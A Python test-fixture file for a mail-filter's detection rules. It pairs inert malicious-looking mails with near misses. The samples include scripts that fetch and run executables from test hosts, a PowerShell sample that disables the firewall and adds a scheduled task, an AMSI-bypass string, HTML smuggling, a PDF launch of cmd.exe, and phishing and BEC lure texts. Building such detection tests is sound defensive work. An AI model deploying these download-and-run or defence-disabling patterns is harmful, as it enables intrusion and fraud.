# SPDX-License-Identifier: Apache-2.0
"""Inert mails for rules: each row (rule, mail that must hit, near miss that differs in what the rule asks).

The rules of named campaigns take theirs from mails.py."""
import base64

from mails import archive, fetches, macro, mail, HISTORY
import bulk_mails, images, launchers, make_rtf, make_xlm, modern_mails, pdfs, windows

LINK = 'https://%s'
FREE = 'Petra Lind <petra.lind@gmail.com>'
AUTH = ('Authentication-Results: mx.recipient.test; spf=%s smtp.mailfrom=%s; dkim=%s header.d=%s; dmarc=%s header.from=%s',
        'Received: from out.%s by mx.recipient.test; Mon, 15 Mar 2021 17:08:57 +0000')
LIST = ['List-Unsubscribe: <https://flowers.test/u/1>', 'List-Id: <garden.flowers.test>', 'Precedence: bulk']
TALK = ['List-Id: <garden.flowers.test>', 'List-Post: <mailto:garden@flowers.test>']


def said(domain, result='pass'):
    return [AUTH[0] % (result, domain, result, domain, result, domain), AUTH[1] % domain]


def page(*links, text='Please see', form=''):
    return '<html><body><p>%s</p>%s%s</body></html>' % (
        text, ''.join('<p><a href="%s">%s</a></p>' % (u, t) for u, t in links), form)


def pdf(*objects):
    return b'%%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R %s >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] ' \
        b'/Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] %s >>\nendobj\n' \
        b'trailer\n<< /Size 4 /Root 1 0 R >>\n' % objects


def picture(more):
    """A page that is one picture, as test/fixture/pdfs.py makes it."""
    objects = pdfs.page(more, content=b'q 612 0 0 792 0 0 cm /I1 Do Q', extra=[pdfs.flate(bytes(range(256)) * 16,
        b'/Type/XObject/Subtype/Image/Width 64/Height 64/BitsPerComponent 8/ColorSpace/DeviceGray')])
    objects[2] = objects[2].replace(b'/Font<<', b'/XObject<</I1 6 0 R>>/Font<<')
    return pdfs.pdf(objects)


NOTE = 'Please read the note.'
WEB = ('note.html', b'<html><body><p>note</p></body></html>')
FORM = b'<html><body><form action="https://a.test/p"><input type="password" name="p"></form></body></html>'
SMUGGLE = (b'<html><script>var b=new Blob([atob("QUJD")]);var a=document.createElement("a");'
           b'a.href=URL.createObjectURL(b);a.download="n.zip";a.click()</script></html>')
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>var a=1;alert(a)</script></svg>'
CALM = b'<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>'
LAUNCH = pdf(b'/OpenAction << /S /Launch /F (cmd.exe) >>', b'')
ANNOT = b'/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://a.test/x) >> >>]'


def attachments():
    def a(name, data=b'text', body=NOTE, **more):
        return mail('Note', body, [(name, data)], **more)
    yield 'attachment-disc-image', a('note.iso'), a('note.dat')
    yield 'attachment-double-extension', a('note.pdf.exe'), a('note.2021.pdf')
    yield 'attachment-enable-content', a('n.xls', make_xlm.xls({'sheets': [('S', 0, False, [
        (0, 0, ('=', 'Please Enable Content'))])], 'names': []})), a('n.xls', make_xlm.xls({'sheets': [('S', 0, False, [
            (0, 0, ('=', 'Table of content'))])], 'names': []}))
    yield 'attachment-html', a(*WEB), a('note.txt')
    yield 'attachment-html-form', a('note.html', FORM), a(*WEB)
    yield 'attachment-locked-with-password', a('n.zip', archive(('n.txt', b'text'), password=b'9399557'), 'Password: 9399557'), \
        a('n.zip', archive(('n.txt', b'text')), 'Password: 9399557')
    yield 'attachment-macro-acts', a('n.doc', macro('cmd /c start x')), a('n.doc', macro())
    yield 'attachment-macro-auto', a('n.doc', macro()), a('n.doc')
    yield 'attachment-macro-hidden-sheet', a('n.xls', make_xlm.xls(make_xlm.icedid())), a('n.xls', make_xlm.xls({
        'sheets': [('S', 1, False, [])], 'names': []}))
    yield 'attachment-pdf-launch', a('n.pdf', LAUNCH), a('n.pdf', pdf(b'', b''))
    yield 'attachment-pdf-links-little-text', a('n.pdf', pdf(b'', ANNOT)), a('n.pdf', pdf(b'', ANNOT), NOTE * 20)
    yield 'attachment-program', a('n.zip', archive(('n.exe', b'text'))), a('n.zip', archive(('n.txt', b'text')))
    yield 'attachment-smuggling', a('n.html', SMUGGLE), a('n.html', SMUGGLE.replace(b'atob', b'text').replace(b'Blob', b'Text'))
    yield 'attachment-svg-script', a('n.svg', SVG), a('n.svg', CALM)
    section = windows.onenote
    yield 'attachment-onenote-program', a('n.one', section([('n.hta', b'<script>alert(1)</script><hta:application id=a>')])), \
        a('n.one', section([('n.txt', b'text')]))
    run = b'new ActiveXObject("WScript.Shell").Run("%s");'
    yield 'attachment-script-acts', a('n.js', run % b'curl http://a.test/x -o x.exe'), a('n.js', run % b'notepad')
    yield 'attachment-command-line', a('n.js', run % b'certutil -urlcache -f http://a.test/x x.exe'), a('n.js', run % b'certutil -store my')
    rtf = {name: data for name, data, _ in make_rtf.fixtures()}
    calm = b'{\\rtf1 a note}'
    yield 'attachment-remote-template', a('n.rtf', rtf['rtf_template.rtf']), a('n.rtf', calm)
    yield 'attachment-dde', a('n.rtf', rtf['rtf_dde.rtf']), a('n.rtf', calm)
    yield 'attachment-equation', a('n.rtf', rtf['rtf_equation.rtf']), a('n.rtf', calm)
    behind = archive(('n.txt', b'text'))
    yield 'attachment-two-files-in-one', a('n.pdf', pdf(b'', b'') + behind), a('n.zip', behind)
    coded = base64.encodebytes(archive(('n.js', b'WScript.Echo(1)' * 9)))
    yield 'attachment-built-program', a('n.txt', coded), a('n.txt', base64.encodebytes(b'plain words ' * 30))
    yield 'attachment-hidden-padding', a('n.lnk', windows.lnk(0x20, windows.counted(' ' * 260 + '/c x'))), \
        a('n.lnk', windows.lnk(0x20, windows.counted('/c x')))
    yield 'attachment-shortcut', a('n.lnk', windows.lnk(0x20, windows.counted('/c start x.js'))), a('n.url')
    yield 'attachment-pdf-picture-link', a('n.pdf', picture(pdfs.LINK)), a('n.pdf', picture(b''))
    yield 'qr-link', a('n.png', images.png(images.gray(images.qr()))), a('n.png', images.png(images.gray(images.qr('garden'))))
    yield 'attachment-code-name', a('3TAPQ2UWB24N8O5B0PLLV.jpg', b'\xff\xd8\xff'), a('IMG-HOLIDAY-GARDEN.jpg', b'\xff\xd8\xff')
    yield 'receipt-in-picture', mail('Invoice receipt', 'Your ID: 7', [('a.jpg', b'\xff\xd8\xff')]), \
        mail('Cake', 'The cake', [('a.jpg', b'\xff\xd8\xff')])
    yield 'icedid-xlm-download', a('n.xls', make_xlm.xls(make_xlm.icedid())), a('n.xls', fetches('x.gif'))
    yield from attached_launchers(a)
    yield from attached_pages(a)


def attached_launchers(a):
    calm = b'REGEDIT4\r\n[HKEY_CURRENT_USER\\Software\\Garden]\r\n"Guard"=dword:00000001\r\n'
    share = launchers.LIBRARY % '\\\\%s\\docs'
    yield 'launcher-command', a('n.settingcontent-ms', (launchers.SETTING % 'notepad n.txt').encode()), \
        a('n.settingcontent-ms', (launchers.SETTING % '').encode())
    yield 'launcher-share-outside', a('n.library-ms', (share % '192.0.2.7').encode()), a('n.library-ms', (share % 'files.lan').encode())
    yield 'launcher-share-outside', a('n.scf', launchers.SCF), a('n.scf', launchers.SCF.replace(b'192.0.2.7', b'192.168.2.7'))
    yield 'launcher-autostart', a('n.reg', launchers.reg('"x"="n.exe"')), a('n.reg', calm)
    yield 'launcher-weakens', a('n.reg', calm.replace(b'Guard', b'DisableAntiSpyware')), a('n.reg', calm)
    yield 'launcher-remote-desktop', a('n.rdp', launchers.DRIVES.encode()), a('n.rdp', (launchers.RDP % 'redirectclipboard:i:0\r\n').encode())
    yield 'launcher-console-script', a('n.msc', launchers.REDIRECT.encode()), a('n.msc', launchers.TASKS.encode())
    yield 'launcher-installer', a('n.jnlp', launchers.JNLP), a('n.jnlp', b'<?xml version="1.0"?><jnlp spec="1.0+"></jnlp>')
    yield 'launcher-search', a('n.library-ms', (launchers.LIBRARY % 'https://dav.test/x').encode()), \
        a('n.library-ms', (launchers.LIBRARY % 'knownfolder:{FDD39AD0}').encode())
    find = 'search-ms:query=n&amp;crumb=%s:\\\\192.0.2.7\\docs'
    yield 'launcher-search', mail('Note', NOTE, html=page((find % 'location', 'note'))), mail('Note', NOTE, html=page((find % 'kind', 'note')))
    yield 'launcher-query', a('n.iqy', launchers.IQY), a('n.txt', launchers.IQY.replace(b'WEB', b'PAGE'))
    url = '[InternetShortcut]\r\nURL=%s\r\n'
    yield 'launcher-opens-file', a('n.url', (url % 'file://files.lan/a/n.exe').encode()), a('n.url', (url % 'https://roses.test/n').encode())
    yield 'launcher-attached', a('n.url', (url % 'https://roses.test/n').encode()), a('n.txt', b'https://roses.test/n')
    yield 'attachment-add-in', a('n.xll', windows.pe(exports=['xlAutoOpen'], dll=True)), a('n.xls', b'text')
    yield 'attachment-help-file', a('n.dat', b'ITSF\3\0\0\0' + bytes(90)), a('n.dat', b'ITS_\3\0\0\0' + bytes(90))
    yield 'attachment-diagnostic', a('n.diagcab', b'MSCF' + bytes(60)), a('n.cab', b'MSCF' + bytes(60))


def attached_pages(a):
    def web(script):
        return b'<html><script>%s</script></html>' % script
    away = web(b'location.href = "https://roses.test/" + "n"')
    yield 'attachment-page-leads-away', a('n.html', away), a('n.html', web(b'var place = "https://roses.test/" + "n"'))
    yield 'attachment-page-leads-away', a('n.svg', b'<svg xmlns="http://www.w3.org/2000/svg" onload="location=\'https://roses.test/\'"/>'), a('n.svg', CALM)
    yield 'attachment-page-hides-address', a('n.html', web(b'location = atob("aHR0cHM6Ly9yb3Nlcy50ZXN0L24=")')), \
        a('n.html', web(b'location = "https://roses.test/n"'))
    yield 'page-copies-command', a('n.html', web(b'navigator.clipboard.writeText("power" + "shell -c ping")')), \
        a('n.html', web(b'navigator.clipboard.writeText("garden notes")'))
    yield 'attachment-program-disguised', a('n.pdf', windows.pe()), a('n.exe', windows.pe())
    yield 'attachment-program-inside', a('n.dat', windows.pe()), a('n.dat', b'MZ text')
    yield 'attachment-name-turned', a('n\u202efdp.exe', b'text'), a('nfdp.exe', b'text')
    patch = b"$k = 'Amsi' + 'Utils'; $f = 'amsiInit' + 'Failed'\n%s\n"
    yield 'script-blinds-antimalware', a('n.ps1', patch % b"Start-Process 'notes.exe'"), a('n.ps1', patch % b"Write-Output $k")
    settle = (b"(New-Object Net.WebClient).DownloadFile('http://%s/n.exe', 'n.exe')\nStart-Process 'n.exe'\n"
              b"netsh advfirewall set allprofiles state off\nschtasks /create /sc minute /tn Notes /tr n.exe\n")
    yield 'script-settles-unguarded', a('n.ps1', settle % b'192.0.2.7'), a('n.ps1', settle % b'10.0.2.7')
    yield 'attachment-other-script', a('n.au3', b'Run("n.exe")'), a('n.txt', b'Run("n.exe")')

    def document(kind, target):
        relation = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        package = 'http://schemas.openxmlformats.org/package/2006/relationships'
        row = '<Relationships xmlns="%s"><Relationship Id="r1" Type="%s%s" Target="%s"%s/></Relationships>'
        return archive(('[Content_Types].xml', b'<Types><Override PartName="/word/document.xml" ContentType="application/vnd.'
                        b'openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'),
                       ('_rels/.rels', (row % (package, relation, 'officeDocument', 'word/document.xml', '')).encode()),
                       ('word/document.xml', b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>'),
                       ('word/_rels/document.xml.rels', (row % (package, relation, kind, target, ' TargetMode="External"')).encode()))
    yield 'attachment-object-outside', a('n.docx', document('frame', 'file://192.0.2.7/s/n.docx')), \
        a('n.docx', document('hyperlink', 'https://roses.test/n'))
    yield 'attachment-object-outside', a('n.docx', document('oleObject', 'mhtml:https://roses.test/n.html!x-usc:https://roses.test/n.html')), \
        a('n.docx', document('image', 'https://roses.test/n.png'))


def senders():
    def s(sender, subject='Note', body=NOTE, **more):
        return mail(subject, body, sender=sender, **more)
    home = 'Petra <petra@flowers.test>'
    yield 'auth-dmarc-fail', s(home, headers=said('flowers.test', 'fail')), s(home, headers=said('flowers.test', 'none'))
    yield 'auth-no-policy', s(home, headers=said('flowers.test', 'none')), s(home, headers=said('flowers.test', 'fail'))
    yield 'auth-spf-fail', s(home, headers=said('flowers.test', 'fail')), s(home, headers=said('flowers.test', 'none'))
    yield 'message-id-foreign', s(home, message_id='<a@roses.test>'), s(home)
    yield 'message-id-foreign', s(home, message_id='<a@roses.test>'), s(home, message_id='<CAa@mail.gmail.com>')
    yield 'reply-to-elsewhere', s(home, headers=['Reply-To: a@roses.test']), s(home, headers=['Reply-To: a@flowers.test'])
    yield 'reply-to-freemail', s(home, headers=['Reply-To: a@gmail.com']), s(FREE, headers=['Reply-To: a@gmail.com'])
    yield 'sender-domain-imitates', s('A <a@paypa1.test>'), s('A <a@paypal.com>')
    yield 'sender-name-brand', s('PayPal Service <a@flowers.test>'), s('PayPal Service <a@paypal.com>')
    yield 'sender-name-brand', s('PayPal Service <a@flowers.test>'), s('Vodafone Store <a@flowers.test>')
    yield 'sender-name-is-address', s('"petra@roses.test" <a@flowers.test>'), s('"petra@flowers.test" <a@flowers.test>')
    yield 'sender-name-recipient', s('recipient.test desk <a@flowers.test>'), s('flowers.test desk <a@flowers.test>')
    yield 'sender-name-shouts', s('GARDEN PRIZE DESK <a@flowers.test>'), s('Garden Prize Desk <a@flowers.test>')
    yield 'sender-random', s('A <a@xq7zk4471w.test>'), s(home)
    yield 'sender-local-random', s('A <kx77120449182734@flowers.test>'), s(home)
    yield 'sender-tenant-default', s('A <a@roses.onmicrosoft.com>'), s('A <a@microsoft.com>')
    yield 'sender-tld', s('A <a@roses.top>'), s('A <a@roses.org>')
    yield 'sender-name-executive', s('Bob Carter CEO <b@roses.test>', body=VOUCHER), s('Bob Carter <b@roses.test>', body=VOUCHER)
    yield 'bec-freemail', s(FREE, body=VOUCHER), s(FREE, body='Are you free on Saturday? We go to the lake.')
    yield 'bec-reply-switch', s(home, body=VOUCHER, headers=['Reply-To: a@roses.test']), \
        s(home, body=VOUCHER, headers=['Reply-To: a@flowers.test'])
    pay = 'I changed my bank. Please pay my salary to the new account before the next payroll.'
    yield 'bec-payroll-outside', s('Bob <bob@roses.test>', body=pay), s('Bob <bob@recipient.test>', body=pay)
    yield 'bec-words-alone', s(home, body=VOUCHER, headers=said('flowers.test')), s(home, body=VOUCHER, headers=LIST)
    yield 'mixed-scripts', s(home, 'P\u0430yment note'), s(home, 'Payment note')
    yield 'trust-authenticated-brand', s('A <a@amazon.com>', headers=said('amazon.com')), \
        s('A <a@paypal.com>', headers=said('paypal.com'))
    yield 'trust-own-brand-links', s('A <a@paypal.com>', body='https://www.paypal.com/a', headers=said('paypal.com')), \
        s('A <a@paypal.com>', body='https://roses.test/a', headers=said('paypal.com'))
    yield 'trust-own-organisation', s('A <a@recipient.test>', body='https://www.recipient.test/a', headers=said('recipient.test')), \
        s('A <a@recipient.test>', body='https://roses.test/a', headers=said('recipient.test'))
    yield 'trust-delivery-report', s('Mail Delivery System <mailer-daemon@flowers.test>'), s('Mailer <mail@flowers.test>')
    yield 'trust-mailing-list', s(home, headers=TALK), s(home, headers=LIST)
    yield 'trust-reply-in-thread', s(home, 'Re: note', headers=['References: <1@recipient.test>']), s(home, 'Re: note')
    warning = 'Many phishing mails go round. Do not click what leads to hxxps://roses[.]test/a and report it.'
    yield 'trust-warns-of-phishing', s(home, body=warning), s(home, body=warning + ' https://roses.test/a')
    yield 'trust-newsletter-shape', s(home, body='\n'.join('News %d of the garden club in May ' % i * 8 + LINK % ('a.test/%d' % i)
        for i in range(15))), s(home, body='\n'.join(LINK % ('a.test/%d' % i) for i in range(15)))


VOUCHER = ('I am in a meeting and cannot take calls. I need you to buy gift cards for a client, scratch the back and send me '
           'the codes. Keep this between us.')


def links():
    def t(url, text='Please see', **more):
        return mail('Note', text, html=page((url, 'the note'), text=text), **more)
    far, home = 'https://roses.test/a', 'https://flowers.test/a'
    yield 'link-only-foreign', t('https://example.org/a'), t(home)
    picture = lambda url: mail('Note', 'See', html=page((url, 'a'), form='<img src="%s.png">' % url))
    yield 'stranger-one-place', picture(far), picture(home)
    yield 'html-only-foreign', t(far).replace(b'text/plain', b'text/html'), t(far)
    yield 'link-cloud-storage-page', t('https://storage.googleapis.com/b/a.html'), t('https://cloud.google.com/storage')
    yield 'link-free-host', t('https://roses.weebly.com/a'), t('https://www.weebly.com/a')
    yield 'link-imitates-brand', t('https://paypal-secure.test/a'), t('https://paypal.com/a')
    yield 'link-brand-below-stranger', t('https://paypal-com.roses.test/a'), t('https://news-com.roses.test/a')
    yield 'sender-brand-own-page', t(home, sender='PayPal Service <a@flowers.test>'), \
        t('https://paypal.com/a', sender='PayPal Service <a@flowers.test>')
    yield 'link-ip', t('http://192.0.2.7/a'), t(far)
    yield 'link-open-redirect', t('https://www.google.com/url?q=https://roses.test/a'), t('https://www.google.com/maps?q=a')
    yield 'link-random-host', t('https://xqzkwvjtpb.com/a'), t(far)
    yield 'link-random-path', t('https://roses.test/aB3dE5gH7jK9mN1pQ3sT5vW7xY9'), t('https://roses.test/garden-and-lake-in-spring/a')
    yield 'link-shortener', t('https://bit.ly/3aBcDe'), t(far)
    yield 'link-text-other-host', mail('Note', 'See', html=page(('https://example.org/a', 'https://example.com/a'))), \
        t('https://example.org/a')
    yield 'link-tld', t('https://roses.top/a'), t('https://roses.org/a')
    yield 'link-userinfo', t('https://www.paypal.com@roses.test/a'), t(far)
    to = lambda data: data.replace(b'recipient.test', b'example.com')
    yield 'link-carries-recipient', to(t(far + '?e=hanako@recipient.test')), to(t(far + '?e=garden'))
    yield 'one-target-many-links', mail('Note', 'See', html=page((far, 'one'), (far, 'two'), (far, 'three'))), \
        mail('Note', 'See', html=page((far, 'one'), (far, 'two'), (home, 'three')))
    yield 'image-only-link', mail('Note', '', html='<a href="%s"><img src="https://roses.test/a.png"></a>' % far), t(far, NOTE * 9)
    yield 'mail-form', mail('Note', NOTE, html=page(form=FORM.decode())), mail('Note', NOTE, html=page(form='<form></form>'))
    yield 'hidden-text', mail('Note', NOTE, html=page(form='<div style="display:none">%s</div>' % ('garden lake ' * 60))), \
        mail('Note', NOTE, html=page(form='<div>%s</div>' % ('garden lake ' * 60)))
    yield 'zero-width-in-text', mail('Note', NOTE, html=page(text='pass\u200bword acc\u200bount ver\u200bify')), \
        mail('Note', NOTE, html=page(text='password account verify'))
    yield 'invisible-in-subject', mail('No\u200bte', NOTE), mail('Note', NOTE)
    yield 'subject-symbols', mail('\U0001F525 Note', NOTE), mail('Note', NOTE)
    yield 'subject-brand', mail('PayPal note', NOTE), mail('Garden note', NOTE)
    yield 'subject-code', mail('Note ref: 7712044', NOTE), mail('Note 12', NOTE)
    yield 'subject-names-recipient', mail('Note for hanako@recipient.test', NOTE), mail('Note for hanako', NOTE)
    yield 'bitcoin-address', mail('Note', 'bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq'), mail('Note', 'bc1 and 3 more')
    yield 'fake-thread-mark', mail('Re: note', NOTE), mail('Re: note', NOTE, headers=['References: <1@recipient.test>'])
    yield 'reply-from-stranger', mail('Re: note', '\n'.join([far, *HISTORY])), \
        mail('Re: note', '\n'.join([far, *HISTORY]), headers=['In-Reply-To: <1@recipient.test>'])
    doc = 'https://docs.google.com/document/d/7'
    yield 'fake-reply-google-doc', mail('RE: annual report', doc), mail('RE: annual report', far)
    yield 'fake-reply-subject', mail('RE: annual report', doc), mail('RE: garden', doc)
    yield 'icedid-reply-one-document', mail('Re: note', NOTE, [('n.doc', macro())]), mail('Note', NOTE, [('n.doc', macro())])


LURES = {
    'advance-fee': ('I am a barrister. My late client left the sum of ten million dollars without next of kin. As beneficiary '
                    'you get half. Kindly reply with your full name.', 'The foundation asks for a donation for the museum.'),
    'bec': (VOUCHER, 'Are you in the office? I have a question about the gift for Bob.'),
    'cred-theft': ('Unusual activity: your account has been suspended. Click here to verify your account within 24 hours or lose '
                   'access.', 'Your account is ready. Welcome to the library.'),
    'extortion': ('I recorded you through your webcam and have full access to your device. Send bitcoin within 48 hours or I send '
                  'the video to all your contacts.', 'The recording of the meeting is in the folder.'),
    'job-scam': ('Part time job: work from home, earn per day 350 dollars, no experience required. Contact the manager on '
                 'Telegram.', 'Thank you for the interview. We will call you on Monday.'),
    'malware-lure': ('Proof of copyright infringement: enable content to see it. The password is 1234.', 'The document is on the shelf.'),
    'steal-pii': ('Congratulations, you are our winner! You have won a prize, an exclusive voucher. Click here to claim your '
                  'reward before it expires today.', 'The winner of the garden contest is Petra.'),
    'unsolicited-goods': ('Meet singles: beautiful women, hot date, sexy girls wait. Dating. https://roses.test/a',
                          'The date of the meeting is 4 May: https://roses.test/a'),
}


def lures():
    for intent, (hit, miss) in LURES.items():
        html = page(text=hit) if intent == 'unsolicited-goods' else None
        yield 'lure-%s-strong' % intent, mail('Note', hit, html=html), mail('Note', miss, html=html and page(text=miss))
    weak = {'advance-fee': 'My name is Petra. I have a business offer, a deal. Further details at your earliest convenience.',
            'bec': 'We have new bank details: our old account is closed, please remit to the new one.',
            'cred-theft': 'Your mailbox is full, click here within 24 hours.',
            'extortion': 'I recorded you.', 'job-scam': 'Part time job: work from home.',
            'steal-pii': 'You have won a prize, an exclusive voucher.',
            'unsolicited-goods': 'Meet singles: dating. https://roses.test/a'}
    for intent, text in weak.items():
        html = page(text=text) if intent == 'unsolicited-goods' else None
        yield 'lure-' + intent, mail('Note', text, html=html), mail('Note', LURES[intent][1])
    charged = 'Your card will be charged 399 USD for the renewal of your subscription. To cancel call our support %s.'
    yield 'lure-callback-scam-strong', mail('Note', charged % '+1 (888) 555-0142'), mail('Note', charged % 'desk')
    yield 'lure-callback-scam', mail('Note', 'Dear customer, call our support at +1 (888) 555-0142.'), \
        mail('Note', 'The desk: +1 (888) 555-0142.')
    yield 'lure-cred-weak-with-link', mail('Note', 'Update your profile within 24 hours: https://roses.test/a'), \
        mail('Note', 'See the profile of Petra: https://roses.test/a')
    yield 'phone-disguised', mail('Note', 'Call +1 (8O8) 555-o142 or +1 (888) 555-0142'), mail('Note', 'Call +1 (888) 555-0142')
    yield 'job-scam-messenger', mail('Note', LURES['job-scam'][0]), mail('Note', LURES['job-scam'][0].replace('Telegram', 'Monday'))
    yield 'lure-bec-strong', mail('Zahlung', 'Sind Sie im Büro? ÜBERWEISUNG heute, bin in einer Besprechung.'), \
        mail('Zahlung', 'Die Überweisung ging gestern raus, wir sehen uns in der Besprechung.')
    yield 'scam-answer-only', mail('Note', LURES['advance-fee'][0]), mail('Note', LURES['advance-fee'][1])
    verify = LURES['cred-theft'][0] + ' https://roses.test/%s'
    yield 'cred-theft-one-place', mail('Note', verify % 'a'), mail('Note', LURES['cred-theft'][1] + ' https://roses.test/a')
    yield 'link-login-path', mail('Note', verify % 'login'), mail('Note', verify % 'garden')
    yield 'bulk-without-way-out', mail('Note', verify, html=page(('https://roses.test/a', 'here'), text=LURES['cred-theft'][0])), \
        mail('Note', verify, html=page(('https://roses.test/a', 'here'), text=LURES['cred-theft'][0]), headers=LIST)
    yield 'sender-freemail-company', mail('Note', verify, sender='Billing Team <petra.lind@gmail.com>'), mail('Note', verify, sender=FREE)
    me = 'Hanako <hanako@recipient.test>'
    yield 'sender-is-recipient', mail('Note', LURES['extortion'][0], sender=me), mail('Note', LURES['extortion'][1], sender=me)


def all_rows():
    for group in (attachments, senders, links, lures):
        yield from group()
    yield from bulk_mails.all_rows()
    yield from modern_mails.all_rows()
